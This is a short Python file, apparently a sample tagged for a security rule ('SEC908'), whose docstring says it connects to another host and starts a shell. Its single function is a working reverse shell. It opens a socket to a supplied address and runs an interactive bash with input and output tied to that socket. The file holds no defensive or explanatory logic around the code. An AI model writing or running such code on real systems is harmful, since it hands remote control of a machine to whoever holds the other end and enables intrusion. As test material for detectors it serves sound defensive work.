# profile: standard
"""A program that connects to another host and starts a shell, however it connects."""
import socket
import subprocess


def hand_over(address):
    link = socket.create_connection(address)  # SEC908
    subprocess.run(["/bin/bash", "-i"], stdin=link.fileno(), stdout=link.fileno())
